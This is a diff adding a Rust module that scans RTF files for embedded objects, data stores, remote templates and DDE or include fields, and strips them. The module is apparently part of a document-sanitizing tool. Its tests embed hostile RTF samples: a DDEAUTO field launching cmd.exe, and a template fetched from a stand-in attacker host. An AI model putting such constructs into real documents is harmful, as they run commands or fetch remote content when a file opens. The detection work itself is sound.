@@ -1,0 +1,362 @@
+//! RTF: embedded objects, data stores, remote templates and DDE or
+//! include fields; disarm cuts their groups out and keeps the text.
+//!
+//! The tokenizer follows what Word does rather than the specification's
+//! neat grammar: control words are compared whole and in lower case, `\bin`
+//! skips raw bytes, escaped braces do not open groups, and a file that ends
+//! with groups still open closes them at the end.
+
+use crate::disarm::Item;
+use crate::finding::FindingKind;
+
+/// Groups that hold an embedded object or hidden binary data.
+const OBJECT_WORDS: [&str; 4] = ["object", "objdata", "datastore", "objupdate"];
+
+/// What one pass over the file found: the findings, and the groups to cut.
+#[derive(Debug, Default)]
+pub(crate) struct Plan {
+    pub(crate) items: Vec<Item>,
+    /// Sorted, not overlapping.
+    cuts: Vec<Cut>,
+}
+
+/// A group to cut, and what stays in its place: the content of an object's
+/// `\result` (the picture or text Word shows for it), as a plain group.
+#[derive(Debug, Clone, Copy)]
+struct Cut {
+    start: usize,
+    end: usize,
+    keep: Option<(usize, usize)>,
+}
+
+#[derive(Debug)]
+struct Group {
+    start: usize,
+    /// The first control word (after `\*`), lower case.
+    destination: Option<String>,
+    /// Text of a `\fldinst` or `\template` group, for the verdict.
+    text: String,
+    /// Why the group goes, when it does.
+    active: Option<Item>,
+    /// `\objclass` text, for a better report line.
+    class: String,
+    /// Where the content after the destination word starts.
+    content: usize,
+    /// The content of a `\result` child, for an object.
+    result: Option<(usize, usize)>,
+}
+
+/// Scans an RTF file.
+pub(crate) fn analyze(rtf: &[u8]) -> Result<Plan, String> {
+    let mut plan = Plan::default();
+    let mut stack: Vec<Group> = Vec::new();
+    let mut i = 0;
+    let mut first_in_group = false;
+    while i < rtf.len() {
+        match rtf[i] {
+            b'{' => {
+                stack.push(Group {
+                    start: i,
+                    destination: None,
+                    text: String::new(),
+                    active: None,
+                    class: String::new(),
+                    content: i + 1,
+                    result: None,
+                });
+                first_in_group = true;
+                i += 1;
+            }
+            b'}' => {
+                if let Some(g) = stack.pop() {
+                    close(g, i + 1, &mut stack, &mut plan);
+                }
+                first_in_group = false;
+                i += 1;
+            }
+            b'\\' => {
+                let (word, param, next) = control(rtf, i);
+                i = next;
+                match word.as_str() {
+                    // `\*` marks an ignorable destination; the word after it names it.
+                    "*" => continue,
+                    "bin" => {
+                        let n = usize::try_from(param.unwrap_or(0).max(0)).unwrap_or(usize::MAX);
+                        i = i.saturating_add(n).min(rtf.len());
+                    }
+                    "'" => text_byte(&mut stack, param.unwrap_or(0) as u8),
+                    // Escaped `\\`, `\{`, `\}` and the like are text.
+                    w if w.len() == 1 => text_byte(&mut stack, w.as_bytes()[0]),
+                    w => {
+                        let depth = stack.len();
+                        let Some(g) = stack.last_mut() else {
+                            return Err(format!("\\{w} outside any group"));
+                        };
+                        if first_in_group {
+                            g.destination = Some(w.to_owned());
+                            g.content = i;
+                        }
+                        if OBJECT_WORDS.contains(&w) && g.active.is_none() {
+                            if depth == 1 {
+                                return Err(format!("\\{w} in the document's own group"));
+                            }
+                            g.active = Some(Item {
+                                kind: FindingKind::EmbeddedObject,
+                                detail: format!("RTF \\{w}"),
+                            });
+                        }
+                    }
+                }
+                first_in_group = false;
+            }
+            b'\r' | b'\n' => i += 1,
+            c => {
+                text_byte(&mut stack, c);
+                first_in_group = false;
+                i += 1;
+            }
+        }
+    }
+    // Word closes what the file left open.
+    while let Some(g) = stack.pop() {
+        close(g, rtf.len(), &mut stack, &mut plan);
+    }
+    plan.cuts
+        .sort_unstable_by_key(|c| (c.start, std::cmp::Reverse(c.end)));
+    let mut merged: Vec<Cut> = Vec::new();
+    for cut in plan.cuts.drain(..) {
+        match merged.last_mut() {
+            // Inside a cut already: the outer one decides what stays.
+            Some(last) if cut.start < last.end => last.end = last.end.max(cut.end),
+            _ => merged.push(cut),
+        }
+    }
+    plan.cuts = merged;
+    Ok(plan)
+}
+
+/// Text kept for the groups whose text decides their fate. Text in groups
+/// nested inside them counts too: Word writes `{\*\fldinst {\rtlch DDEAUTO ..}}`.
+fn text_byte(stack: &mut [Group], c: u8) {
+    const MAX_TEXT: usize = 4096;
+    let owner = stack.iter_mut().rev().find(|g| {
+        matches!(
+            g.destination.as_deref(),
+            Some("fldinst" | "template" | "objclass")
+        )
+    });
+    if let Some(g) = owner
+        && g.text.len() < MAX_TEXT
+    {
+        g.text.push(c as char);
+    }
+}
+
+fn close(mut g: Group, end: usize, stack: &mut [Group], plan: &mut Plan) {
+    let text = g.text.trim().to_owned();
+    match g.destination.as_deref() {
+        Some("objclass") => {
+            if let Some(parent) = stack.last_mut() {
+                parent.class = text.chars().filter(|c| !c.is_control()).take(64).collect();
+            }
+        }
+        Some("fldinst") => {
+            if let Some((kind, why)) = active_field(&text) {
+                g.active = Some(Item {
+                    kind,
+                    detail: format!("RTF field {why}: {}", clip(&text)),
+                });
+            }
+        }
+        Some("result") => {
+            if let Some(parent) = stack.last_mut() {
+                parent.result = Some((g.content, end.saturating_sub(1).max(g.content)));
+            }
+        }
+        Some("template") if !text.is_empty() => {
+            g.active = Some(Item {
+                kind: FindingKind::ExternalReference,
+                detail: format!("RTF attached template → {}", clip(&text)),
+            });
+        }
+        _ => {}
+    }
+    // An object's own `\objdata` goes with the object: one line, one cut.
+    if stack.iter().any(|outer| outer.active.is_some()) {
+        return;
+    }
+    if let Some(mut item) = g.active {
+        if !g.class.is_empty() {
+            item.detail = format!("{} (class {})", item.detail, g.class);
+        }
+        plan.items.push(item);
+        let keep = if g.destination.as_deref() == Some("object") {
+            g.result
+        } else {
+            None
+        };
+        plan.cuts.push(Cut {
+            start: g.start,
+            end,
+            keep,
+        });
+    }
+}
+
+/// Fields that run a command or fetch something when the document opens.
+fn active_field(instr: &str) -> Option<(FindingKind, &'static str)> {
+    let upper = instr.trim_start().to_ascii_uppercase();
+    let word = upper.split_whitespace().next().unwrap_or_default();
+    match word {
+        "DDE" | "DDEAUTO" => Some((FindingKind::Dde, "DDE")),
+        "INCLUDEPICTURE" | "INCLUDETEXT" | "LINK" => {
+            let remote = ["HTTP:", "HTTPS:", "\\\\\\\\", "\\\\", "FILE:", "//"]
+                .iter()
+                .any(|p| upper.contains(p));
+            remote.then_some((FindingKind::ExternalReference, "fetching a remote file"))
+        }
+        _ => None,
+    }
+}
+
+fn clip(s: &str) -> String {
+    const MAX: usize = 200;
+    let s: String = s.chars().filter(|c| !c.is_control()).collect();
+    if s.chars().count() <= MAX {
+        s
+    } else {
+        s.chars().take(MAX).chain(['…']).collect()
+    }
+}
+
+/// A control word or symbol at `i` (which holds the backslash): its name
+/// (lower case; one character for a symbol, `'` with the byte as parameter
+/// for a hex escape), its numeric parameter, and where the next token starts.
+fn control(rtf: &[u8], i: usize) -> (String, Option<i64>, usize) {
+    let mut j = i + 1;
+    let Some(&c) = rtf.get(j) else {
+        return ("\\".into(), None, j);
+    };
+    if !c.is_ascii_alphabetic() {
+        if c == b'\'' {
+            let hex = rtf
+                .get(j + 1..j + 3)
+                .and_then(|h| std::str::from_utf8(h).ok());
+            let byte = hex.and_then(|h| u8::from_str_radix(h, 16).ok());
+            let consumed = if byte.is_some() { 3 } else { 1 };
+            return ("'".into(), byte.map(i64::from), j + consumed);
+        }
+        return ((c as char).to_string(), None, j + 1);
+    }
+    while rtf.get(j).is_some_and(u8::is_ascii_alphabetic) {
+        j += 1;
+    }
+    let word = String::from_utf8_lossy(&rtf[i + 1..j]).to_ascii_lowercase();
+    let num_start = j;
+    if rtf.get(j) == Some(&b'-') {
+        j += 1;
+    }
+    while rtf.get(j).is_some_and(u8::is_ascii_digit) {
+        j += 1;
+    }
+    // Word reads at most ten digits; longer runs are nonsense, clamp them.
+    let param = std::str::from_utf8(&rtf[num_start..j])
+        .ok()
+        .filter(|s| !s.is_empty() && *s != "-")
+        .map(|s| s.parse::<i64>().unwrap_or(i64::MAX));
+    // One space after a control word belongs to it.
+    if rtf.get(j) == Some(&b' ') {
+        j += 1;
+    }
+    (word, param, j)
+}
+
+/// The file without the groups the plan cuts.
+pub(crate) fn disarm(rtf: &[u8], plan: Plan) -> (Vec<u8>, Vec<String>) {
+    let mut out = Vec::with_capacity(rtf.len());
+    let mut at = 0;
+    for cut in &plan.cuts {
+        out.extend_from_slice(&rtf[at..cut.start]);
+        // Braces stand in for the cut: the bytes on either side must not
+        // join into a new control word (`\ob` + `ject`).
+        out.push(b'{');
+        if let Some((a, b)) = cut.keep {
+            out.extend_from_slice(&rtf[a..b]);
+        }
+        out.push(b'}');
+        at = cut.end;
+    }
+    out.extend_from_slice(&rtf[at.min(rtf.len())..]);
+    let log = plan.items.into_iter().map(|i| i.detail).collect();
+    (out, log)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cut(rtf: &str) -> (String, Vec<String>) {
+        let plan = analyze(rtf.as_bytes()).unwrap();
+        let (out, log) = disarm(rtf.as_bytes(), plan);
+        (String::from_utf8(out).unwrap(), log)
+    }
+
+    #[test]
+    fn objects_go_text_stays() {
+        let (out, log) = cut(
+            r"{\rtf1{\fonttbl{\f0 Arial;}}Hello {\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}{\result{\pict ab}}} world\par}",
+        );
+        assert_eq!(
+            out,
+            r"{\rtf1{\fonttbl{\f0 Arial;}}Hello {{\pict ab}} world\par}"
+        );
+        assert_eq!(log, ["RTF \\object (class Package)"]);
+        assert!(analyze(out.as_bytes()).unwrap().items.is_empty());
+    }
+
+    #[test]
+    fn hidden_destinations_and_fields() {
+        let (out, log) = cut(
+            r#"{\rtf1{\*\datastore 0105}{\*\template http://evil.example/t.dot}{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"}{\fldrslt shown}} {\field{\*\fldinst PAGE}{\fldrslt 1}}}"#,
+        );
+        assert_eq!(
+            out,
+            r"{\rtf1{}{}{\field{}{\fldrslt shown}} {\field{\*\fldinst PAGE}{\fldrslt 1}}}"
+        );
+        assert_eq!(log.len(), 3, "{log:?}");
+    }
+
+    #[test]
+    fn field_instructions_in_nested_groups() {
+        let (out, log) = cut(
+            r#"{\rtf1{\field{\*\fldinst {\rtlch\fcs1 DDE}{\rtlch AUTO c:\\cmd.exe}}{\fldrslt x}}}"#,
+        );
+        assert_eq!(out, r"{\rtf1{\field{}{\fldrslt x}}}");
+        assert_eq!(log, [r"RTF field DDE: DDEAUTO c:\cmd.exe"]);
+    }
+
+    #[test]
+    fn bin_data_and_escaped_braces_do_not_confuse_groups() {
+        // The raw bytes after \bin hold a brace and a fake \object.
+        let (out, log) = cut("{\\rtf1 a\\{ {\\pict\\bin9 }\\object}b}");
+        assert_eq!(out, "{\\rtf1 a\\{ {\\pict\\bin9 }\\object}b}");
+        assert!(log.is_empty());
+        // Left open at the end: closed there, and cut.
+        let (out, log) = cut("{\\rtf1 a{\\object\\objdata 01");
+        assert_eq!(out, "{\\rtf1 a{}");
+        assert_eq!(log.len(), 1);
+    }
+
+    #[test]
+    fn a_cut_never_joins_its_neighbours_into_a_control_word() {
+        let (out, log) = cut(r"{\rtf1 \ob{\*\datastore 01}ject x}");
+        assert_eq!(log.len(), 1);
+        assert_eq!(out, r"{\rtf1 \ob{}ject x}");
+        assert!(analyze(out.as_bytes()).unwrap().items.is_empty());
+    }
+
+    #[test]
+    fn object_in_the_root_group_cannot_be_cut() {
+        assert!(analyze(b"{\\rtf1 \\objdata 0105}").is_err());
+    }
+}
